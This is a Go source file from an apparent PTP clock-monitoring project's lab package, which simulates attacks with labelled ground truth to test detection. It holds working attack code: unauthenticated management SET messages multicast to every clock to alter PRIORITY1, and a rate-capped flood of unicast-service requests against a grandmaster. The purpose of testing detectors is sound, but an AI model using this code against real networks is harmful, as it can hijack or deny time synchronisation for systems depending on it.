//go:build linux

package lab

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/ptpwatch/ptpwatch/internal/packet"
	"github.com/ptpwatch/ptpwatch/internal/ptp"
	"github.com/ptpwatch/ptpwatch/internal/simulate/truth"
)

// Manage sends a management SET to every clock, once a second (IEEE 1588-2019
// 15.4).
type Manage struct {
	Station
	Transport packet.Transport
	// ID is of a dataset member of one octet, PRIORITY1 for instance, and Value
	// what it is to become.
	ID    ptp.ManagementID
	Value uint8

	envelope Envelope
}

// Priority1 is the managementId of PRIORITY1.
const Priority1 ptp.ManagementID = 0x2005

func (a *Manage) describe(e *truth.Episode) {
	e.Type, e.Alerts, e.Tolerated = "management-set", []string{"PTPManagementWrite"}, []string{"PTPGrandmasterDatasetChanged", "PTPGrandmasterChanged"}
	e.Size = fmt.Sprintf("%v %d", a.ID, a.Value)
}

func (a *Manage) open(p Plan) (err error) {
	if err := a.Station.open(p); err != nil {
		return err
	}
	if a.envelope, err = a.port.Multicast(a.Transport); err != nil {
		return errors.Join(err, a.port.Close())
	}
	return nil
}

func (a *Manage) close(e *truth.Episode) error {
	e.Attacker = a.identity().ClockIdentity.String()
	return a.Station.close(e)
}

func (a *Manage) attack(ctx context.Context) error {
	everyone := ptp.PortIdentity{ClockIdentity: ^ptp.ClockIdentity(0), PortNumber: 0xFFFF}
	tlv := ptp.AppendTLV(nil, &ptp.ManagementTLV{ManagementID: a.ID, Data: &ptp.Datum[uint8]{Value: a.Value}})
	for sequence := uint16(0); ctx.Err() == nil; sequence++ {
		err := a.port.Send(a.envelope.Frame(&ptp.Message{
			Type: ptp.ManagementMessage, VersionPTP: 2, DomainNumber: a.Domain,
			SourcePortIdentity: a.identity(), PortIdentity: everyone, SequenceID: sequence, ControlField: 4, LogMessageInterval: ptp.NoInterval,
			Management: ptp.Management{StartingBoundaryHops: 1, BoundaryHops: 1, Action: ptp.ActionSet}, TLVs: tlv,
		}))
		if err != nil {
			return err
		}
		pause(ctx, time.Second)
	}
	return nil
}

// Flood asks a grandmaster for unicast service again and again, each time as
// the next of many (IEEE 1588-2019 16.1.4.1).
type Flood struct {
	Station
	Rate       int // requests a second
	Count      int // requests in all
	Requesters int // identities that it uses in turn
	// Duration, in seconds, and LogPeriod are what it asks for.
	Duration  uint32
	LogPeriod ptp.LogInterval

	sent int
}

// Bounds of a flood: it must not take the machine away from others.
const (
	mostRate  = 5000
	mostCount = 50000
)

func (f *Flood) describe(e *truth.Episode) {
	e.Type, e.Alerts, e.Severity = "unicast-flood", []string{"PTPUnicastNegotiationAbuse", "PTPFlood"}, "warning"
	e.Tolerated = []string{"PTPMessageIntervalAnomaly", "PTPSyncLoss", "PTPTransportAnomaly"}
	e.Size = fmt.Sprintf("%d at %d/s by %d requesters, for %d s and 2^%d s", f.Count, f.Rate, f.Requesters, f.Duration, f.LogPeriod)
}

func (f *Flood) open(p Plan) error {
	switch {
	case f.Rate < 1 || f.Rate > mostRate || f.Count < 1 || f.Count > mostCount:
		return fmt.Errorf("flood of %d at %d a second: 1 to %d at 1 to %d are accepted", f.Count, f.Rate, mostCount, mostRate)
	case f.Requesters < 1 || f.Requesters > 0xFFFF:
		return fmt.Errorf("flood by %d requesters: 1 to %d are accepted", f.Requesters, 0xFFFF)
	}
	return f.Station.open(p)
}

func (f *Flood) close(e *truth.Episode) error {
	e.Attacker = f.identity().ClockIdentity.String()
	return f.Station.close(e)
}

// attack lasts until Count is reached.
func (f *Flood) attack(ctx context.Context) error {
	for !f.known() && ctx.Err() == nil {
		var o packet.Observation
		if _, err := f.hear(20*time.Millisecond, &o); err != nil {
			return err
		}
	}
	if !f.known() {
		return fmt.Errorf("flood: no grandmaster announced itself in domain %d", f.Domain)
	}
	began := time.Now()
	for ; f.sent < f.Count && ctx.Err() == nil; f.sent++ {
		pause(ctx, time.Until(began.Add(time.Duration(f.sent)*time.Second/time.Duration(f.Rate))))
		if err := f.request(); err != nil {
			return err
		}
	}
	return nil
}

func (f *Flood) request() error {
	wanted := []ptp.MessageType{ptp.AnnounceMessage, ptp.Sync, ptp.DelayResp}[f.sent%3]
	from := f.identity()
	from.PortNumber = uint16(1 + f.sent/3%f.Requesters)
	return f.send(answer(&f.seen), &ptp.Message{
		Type: ptp.Signaling, VersionPTP: 2, DomainNumber: f.Domain, Flags: ptp.FlagUnicast,
		SourcePortIdentity: from, PortIdentity: ptp.PortIdentity{ClockIdentity: ^ptp.ClockIdentity(0), PortNumber: 0xFFFF},
		SequenceID: uint16(f.sent), ControlField: 5, LogMessageInterval: ptp.NoInterval,
		TLVs: ptp.AppendTLV(nil, &ptp.RequestUnicastTransmission{MessageType: wanted, LogInterMessagePeriod: f.LogPeriod, DurationField: f.Duration}),
	})
}
